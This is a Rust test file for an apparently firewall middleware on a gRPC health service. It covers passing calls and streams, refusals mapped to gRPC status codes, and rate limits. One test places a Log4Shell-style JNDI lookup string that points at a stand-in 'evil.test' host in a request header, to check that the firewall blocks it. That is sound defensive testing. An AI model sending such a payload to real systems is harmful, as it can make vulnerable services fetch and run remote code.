//! The layer on a gRPC server: tonic's health service, asked by tonic's client over loopback. What gRPC sends is seen by
//! its head; its messages are no form, text or JSON, and stream through.

// Helpers of tests may fail as tests do.
#![allow(clippy::unwrap_used)]

use std::net::SocketAddr;
use std::sync::Arc;
use std::task::{Context, Poll};

use aiwaf_axum::Aiwaf;
use aiwaf_core::{Firewall, FirewallBuilder, Peer, Refusal, RequestView, Response};
use aiwaf_testing::Recorder;
use http::Request;
use tokio_stream::wrappers::TcpListenerStream;
use tonic::transport::server::TcpConnectInfo;
use tonic::transport::{Channel, Endpoint, Server};
use tonic::{Code, Request as Message};
use tonic_health::ServingStatus;
use tonic_health::pb::HealthCheckRequest;
use tonic_health::pb::health_client::HealthClient;
use tower_layer::layer_fn;
use tower_service::Service;

/// Hands on what tonic knows of the connection.
#[derive(Clone)]
struct WithPeer<S>(S);

impl<S: Service<Request<B>>, B> Service<Request<B>> for WithPeer<S> {
    type Response = S::Response;
    type Error = S::Error;
    type Future = S::Future;

    fn poll_ready(&mut self, cx: &mut Context<'_>) -> Poll<Result<(), S::Error>> {
        self.0.poll_ready(cx)
    }

    fn call(&mut self, mut request: Request<B>) -> S::Future {
        let known = request.extensions().get::<TcpConnectInfo>();
        if let Some(peer) = known.and_then(TcpConnectInfo::remote_addr) {
            request.extensions_mut().insert(Peer::Address(peer.ip()));
        }
        self.0.call(request)
    }
}

/// A gRPC client reads no JSON: the status of its call is a header field, and the body stays empty.
fn grpc_status(_: &RequestView<'_>, refusal: &Refusal) -> Option<Response> {
    let code = match refusal.status {
        429 => Code::ResourceExhausted,
        _ => Code::PermissionDenied,
    };
    Some(Response {
        status: 200,
        headers: vec![
            ("content-type", "application/grpc".to_owned()),
            ("grpc-status", i32::from(code).to_string()),
            ("x-request-id", refusal.request_id.to_string()),
        ],
        body: String::new(),
    })
}

async fn serve(firewall: FirewallBuilder) -> SocketAddr {
    let firewall = firewall.respond_with(grpc_status).build().unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let (reporter, service) = tonic_health::server::health_reporter();
    reporter
        .set_service_status("shop", ServingStatus::Serving)
        .await;
    let server = Server::builder()
        // The first one is the outermost.
        .layer(layer_fn(WithPeer))
        .layer(Aiwaf::new(Arc::new(firewall)))
        .add_service(service)
        .serve_with_incoming(TcpListenerStream::new(listener));
    tokio::spawn(async { server.await.unwrap() });
    // Kept for as long as the test runs: without it the service is not serving.
    std::mem::forget(reporter);
    address
}

async fn client(address: SocketAddr) -> HealthClient<Channel> {
    let endpoint = Endpoint::try_from(format!("http://{address}")).unwrap();
    HealthClient::new(endpoint.connect().await.unwrap())
}

fn question() -> Message<HealthCheckRequest> {
    Message::new(HealthCheckRequest {
        service: "shop".to_owned(),
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn calls_and_streams_pass_and_their_outcome_is_observed() {
    let recorder = Recorder::default();
    let firewall = Firewall::builder().check_after(recorder.clone());
    let mut client = client(serve(firewall).await).await;
    let answer = client.check(question()).await.unwrap().into_inner();
    assert_eq!(answer.status, ServingStatus::Serving as i32);
    let mut stream = client.watch(question()).await.unwrap().into_inner();
    let first = stream.message().await.unwrap().unwrap();
    assert_eq!(first.status, ServingStatus::Serving as i32);
    let seen = tokio::task::spawn_blocking(move || recorder.wait_for(2))
        .await
        .unwrap();
    assert_eq!(seen[0].path, "/grpc.health.v1.Health/Check");
    assert_eq!(seen[0].status, 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refusal_is_a_status_that_the_client_understands() {
    let mut client = client(serve(Firewall::builder()).await).await;
    let mut attack = question();
    attack
        .metadata_mut()
        .insert("x-note", "${jndi:ldap://evil.test/a}".parse().unwrap());
    let refused = client.check(attack).await.unwrap_err();
    assert_eq!(refused.code(), Code::PermissionDenied, "{refused:?}");
    // The connection is good for the next call.
    client.check(question()).await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn limits_hold_for_calls() {
    let firewall = Firewall::builder().with_settings(|settings| {
        settings.rate_limit.max = 3;
        settings.rate_limit.flood = 100;
    });
    let mut client = client(serve(firewall).await).await;
    for _ in 0..3 {
        client.check(question()).await.unwrap();
    }
    let refused = client.check(question()).await.unwrap_err();
    assert_eq!(refused.code(), Code::ResourceExhausted, "{refused:?}");
}
